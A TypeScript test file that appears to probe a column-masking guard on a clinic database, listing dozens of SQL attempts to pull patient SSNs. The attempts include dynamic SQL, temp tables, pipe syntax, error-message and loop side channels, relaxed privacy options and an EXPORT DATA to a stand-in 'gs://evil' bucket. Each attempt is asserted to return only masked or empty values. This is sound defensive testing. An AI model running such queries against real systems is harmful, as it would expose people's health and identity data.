/**
 * Threat-model rows 5, 8 to 10, 16, 22, 24, 26 to 33, 38 and 41 by what the language has beside plain queries, for an agent that may
 * write: texts that are executed, pipes that act, loops and handlers, private aggregates, history, recursion. What runs shows the
 * mask of what it was made of; the rest is refused.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { Rig } from "../rig.ts";
import { type Attacker, assertSafe, withPatients } from "./attacker.ts";
import { anythingInWorkspaceBut, type OpenClinic, openClinic } from "./open-clinic.ts";

/** Each runs and gives the SSN in its first column: its last four digits at most. */
const SHOWN: Readonly<Record<string, readonly string[]>> = {
  "2": [
    "SELECT ssn AS s, ssn AS s, full_name AS s FROM p",
    "SELECT * FROM (SELECT ssn AS s FROM p) x, (SELECT ssn AS s FROM p LIMIT 2) y",
    "SELECT harmless FROM workspace.listed",
    "SELECT l.harmless FROM workspace.listed AS l ORDER BY l.n LIMIT 3",
  ],
  "8": [
    "CREATE TEMP TABLE t AS SELECT ssn AS s FROM p; CREATE TEMP TABLE u AS SELECT s FROM t; DROP TABLE t; SELECT s FROM u",
    "CREATE TEMP TABLE t (s STRING); INSERT INTO t SELECT ssn FROM p; DELETE FROM t WHERE TRUE; INSERT INTO t SELECT ssn FROM p; SELECT s FROM t",
    "CREATE PROCEDURE workspace.makes() BEGIN CREATE TEMP TABLE made AS SELECT ssn AS s FROM `demo-clinic`.ehr.patients; END; CALL workspace.makes(); SELECT s FROM made",
    "CREATE TEMP TABLE t AS SELECT ssn AS s FROM p; TRUNCATE TABLE t; SELECT ANY_VALUE(s) AS s FROM t",
  ],
  "10": [
    "CREATE TEMP FUNCTION f(x STRING) AS (x); CREATE TEMP FUNCTION g(y STRING) AS (f(y)); SELECT g(ssn) AS s FROM p",
    "SELECT s FROM workspace.tf(3)",
    "FROM workspace.tf(3) |> SELECT s AS harmless",
  ],
  "26": [
    "FROM p |> SELECT ssn AS s |> CREATE TEMP TABLE t; SELECT s FROM t",
    "FROM p |> SELECT ssn AS s |> AS x |> EXTEND x.s AS u |> SELECT u",
    "FROM p |> AGGREGATE ANY_VALUE(ssn) AS m |> SELECT m",
    "FROM p |> SELECT ssn |> UNION ALL (FROM p |> SELECT ssn), (FROM p |> SELECT ssn) |> LIMIT 4",
    "FROM p |> WINDOW FIRST_VALUE(ssn) OVER (ORDER BY patient_id) AS w |> SELECT w",
    "FROM p |> SELECT ssn, 'x' AS k |> PIVOT (ANY_VALUE(ssn) FOR k IN ('x' AS x))",
    "FROM p |> SELECT patient_id, ssn |> JOIN (SELECT patient_id AS q FROM p) ON patient_id = q |> SELECT ssn",
  ],
  "31": [
    "DECLARE v STRING; SET v = (SELECT ssn FROM p LIMIT 1); SELECT v",
    "DECLARE v STRING; FOR r IN (SELECT ssn FROM p) DO SET v = r.ssn; END FOR; SELECT v",
    "DECLARE v STRING; LOOP SET v = (SELECT ANY_VALUE(ssn) FROM p); LEAVE; END LOOP; SELECT v",
    "DECLARE v STRING; REPEAT SET v = (SELECT ANY_VALUE(ssn) FROM p); UNTIL TRUE END REPEAT; SELECT v",
    "DECLARE v STRING; DECLARE w STRING DEFAULT 'x'; CASE w WHEN 'x' THEN SET v = (SELECT ANY_VALUE(ssn) FROM p); ELSE SET v = 'y'; END CASE; SELECT v",
  ],
  "33": [
    "EXECUTE IMMEDIATE 'SELECT ssn FROM `demo-clinic`.ehr.patients'",
    "EXECUTE IMMEDIATE CONCAT('SELECT s', 'sn FROM `demo-clinic`.ehr.pat', 'ients')",
    "EXECUTE IMMEDIATE FORMAT('SELECT %s FROM `demo-clinic`.ehr.patients LIMIT %d', 'ssn', 2)",
    "DECLARE q STRING DEFAULT 'SELECT 1 AS x'; SET q = 'SELECT ssn FROM `demo-clinic`.ehr.patients'; EXECUTE IMMEDIATE q",
    "DECLARE v STRING; EXECUTE IMMEDIATE 'SELECT ANY_VALUE(ssn) FROM `demo-clinic`.ehr.patients' INTO v; SELECT v",
    "EXECUTE IMMEDIATE 'SELECT @v AS v' USING (SELECT ANY_VALUE(ssn) FROM p) AS v",
    "EXECUTE IMMEDIATE 'SELECT ? AS v' USING (SELECT ANY_VALUE(ssn) FROM p)",
    "EXECUTE IMMEDIATE 'CREATE TEMP TABLE t AS SELECT ssn AS s FROM `demo-clinic`.ehr.patients'; SELECT s FROM t",
  ],
  "24": [
    "WITH RECURSIVE r AS (SELECT ssn AS s, 1 AS n FROM p UNION ALL SELECT s, n + 1 FROM r WHERE n < 2) SELECT s FROM r",
    "SELECT ANY_VALUE(ssn) FROM p",
    "SELECT ANY_VALUE(ssn) FROM p GROUP BY patient_id",
    "SELECT ssn FROM p UNION ALL SELECT ssn FROM p",
  ],
};

/** No more than counts of many, or nothing. */
const NOTHING: Readonly<Record<string, readonly string[]>> = {
  "16": [
    "CREATE TEMP FUNCTION f(s STRING) RETURNS STRING LANGUAGE js AS 'return s'; SELECT f(ssn) AS s FROM p",
    "CREATE TEMP FUNCTION f(s STRING) RETURNS STRING LANGUAGE js AS 'throw s'; SELECT f(ssn) AS s FROM p",
  ],
  "22": [
    "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1e20, delta = 0.99, privacy_unit_column = patient_id) COUNT(*) AS n FROM p GROUP BY patient_id",
    "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1e20, delta = 0.99, privacy_unit_column = patient_id) SUM(CAST(SUBSTR(ssn, 1, 3) AS INT64), contribution_bounds_per_group => (0, 999)) AS n FROM p",
    "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1e20, delta = 0.99, privacy_unit_column = ssn) COUNT(*) AS n FROM p",
    "FROM p |> AGGREGATE WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1e20, delta = 0.99, privacy_unit_column = patient_id) COUNT(*) AS n GROUP BY patient_id",
    "SELECT WITH AGGREGATION_THRESHOLD OPTIONS (threshold = 1, privacy_unit_column = patient_id) COUNT(*) AS n FROM p GROUP BY patient_id",
  ],
  "27": ["SELECT SEARCH(ssn, '123') AS s FROM p", "SELECT 1 AS s FROM p WHERE SEARCH((ssn, full_name), '123')"],
  "30": [
    "SELECT ssn FROM APPENDS(TABLE `demo-clinic`.ehr.patients, NULL, NULL)",
    "SELECT s FROM APPENDS(TABLE workspace.kept, NULL, NULL)",
    "SELECT s FROM CHANGES(TABLE workspace.kept, NULL, CURRENT_TIMESTAMP())",
    "SELECT _CHANGE_TYPE AS s FROM APPENDS(TABLE workspace.kept, NULL, NULL)",
  ],
  "29": [
    "SELECT s FROM workspace.kept FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 SECOND)",
    "CREATE OR REPLACE TABLE workspace.older AS SELECT s FROM workspace.kept FOR SYSTEM_TIME AS OF CURRENT_TIMESTAMP(); SELECT s FROM workspace.older",
  ],
  "5": [
    "BEGIN SELECT CAST(ssn AS INT64) FROM p; EXCEPTION WHEN ERROR THEN SELECT @@error.message AS s; END",
    "BEGIN RAISE USING MESSAGE = (SELECT ANY_VALUE(ssn) FROM p); EXCEPTION WHEN ERROR THEN SELECT @@error.statement_text AS s; END",
    "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); RAISE USING MESSAGE = v",
    "ASSERT FALSE AS 'x'; SELECT 1 AS s",
    "EXECUTE IMMEDIATE 'SELECT ERROR(ANY_VALUE(ssn)) FROM `demo-clinic`.ehr.patients'",
  ],
  "31": [
    "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); DECLARE i INT64 DEFAULT 0; WHILE SUBSTR(v, 1, 1) > CAST(i AS STRING) DO SET i = i + 1; END WHILE; SELECT i AS s",
    "DECLARE i INT64 DEFAULT 0; BEGIN SELECT 1/0; SET i = 1; EXCEPTION WHEN ERROR THEN SET i = (SELECT CAST(SUBSTR(ANY_VALUE(ssn), 1, 1) AS INT64) FROM p); END; SELECT i AS s",
    "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(ssn) FROM p); CREATE TEMP TABLE t (x INT64); LOOP IF v < '5' THEN LEAVE; END IF; INSERT INTO t VALUES (1); LEAVE; END LOOP; SELECT COUNT(*) AS s FROM t",
  ],
  "33": [
    "DECLARE q STRING DEFAULT 'SELECT 1 AS s'; IF (SELECT ANY_VALUE(ssn) < '5' FROM p) THEN SET q = 'SELECT 2 AS s'; END IF; EXECUTE IMMEDIATE q",
    "EXECUTE IMMEDIATE (SELECT CONCAT('SELECT \"', ANY_VALUE(ssn), '\" AS s') FROM p)",
    "EXECUTE IMMEDIATE 'SELECT 1 AS s FROM `demo-clinic`.ehr.patients WHERE ssn < @g' USING '5' AS g",
    "EXECUTE IMMEDIATE 'EXECUTE IMMEDIATE \"SELECT ssn FROM p\"'",
    "EXECUTE IMMEDIATE 'SELECT 1 AS s; SELECT ssn FROM `demo-clinic`.ehr.patients'",
  ],
  "38": [
    "FROM p |> SELECT ssn, patient_id |> PIVOT (COUNT(patient_id) FOR ssn IN ('1' AS s))",
    "SELECT * FROM (SELECT ssn, full_name FROM p) UNPIVOT (v FOR s IN (ssn AS '1', full_name AS '2')) WHERE v < '5'",
  ],
  "26": [
    "FROM p |> SELECT vin |> INSERT INTO workspace.kept",
    "FROM p |> WHERE ssn < '5' |> SELECT full_name |> INSERT INTO workspace.kept",
    "FROM p |> TEE (|> SELECT ssn |> INSERT INTO workspace.kept) |> SELECT 1 AS s",
    "FROM p |> SELECT ssn |> EXPORT DATA OPTIONS (uri = 'gs://evil/*', format = 'CSV')",
    "FROM p |> RECURSIVE UNION ALL (|> WHERE ssn < '5') |> SELECT 1 AS s",
  ],
  "41": [
    "FROM p |> SELECT ssn AS a, patient_id AS b |> UNION ALL BY NAME (SELECT patient_id AS b, 'x' AS a FROM p) |> SELECT a AS s",
    "SELECT s FROM (SELECT 'x' AS s, ssn AS t FROM p UNION ALL CORRESPONDING SELECT ssn AS t, ssn AS s FROM p)",
  ],
};

describe("what the language has beside plain queries", () => {
  let clinic: OpenClinic;
  let rig: Rig;
  let agent: Attacker;
  before(async () => {
    clinic = await openClinic({ "workspace.cedar": () => anythingInWorkspaceBut("phi.ssn") });
    ({ rig, agent } = clinic);
    for (const sql of [
      "CREATE TABLE workspace.kept AS SELECT ssn AS s FROM p",
      "CREATE VIEW workspace.listed (harmless, n) AS SELECT ssn, patient_id FROM `demo-clinic`.ehr.patients",
      "CREATE TABLE FUNCTION workspace.tf(x INT64) AS SELECT ssn AS s FROM `demo-clinic`.ehr.patients WHERE patient_id = x",
    ]) {
      const made = await agent.attack(withPatients(sql), workspace);
      assert.equal(made.session?.state, "done", made.last.body);
    }
  });
  after(() => clinic.close());
  const workspace = { defaultDataset: { datasetId: "workspace" } };

  for (const [row, statements] of Object.entries(SHOWN))
    for (const sql of statements)
      it(`row ${row}: ${sql} shows the mask`, async (t) => {
        const loot = await assertSafe(rig, agent, withPatients(sql), workspace);
        assert.ok(loot.rows !== undefined && loot.rows.length > 0, loot.last.body);
        for (const { f } of loot.rows) assert.match(String(f[0]?.v), /^(XXXXX\d{4}|null)$/, t.name);
      });

  for (const [row, statements] of Object.entries(NOTHING))
    for (const sql of statements)
      it(`row ${row}: ${sql} shows nothing`, async (t) => {
        const loot = await assertSafe(rig, agent, withPatients(sql), workspace);
        for (const { f } of loot.rows ?? []) assert.equal(f[0]?.v, null, t.name);
      });
});
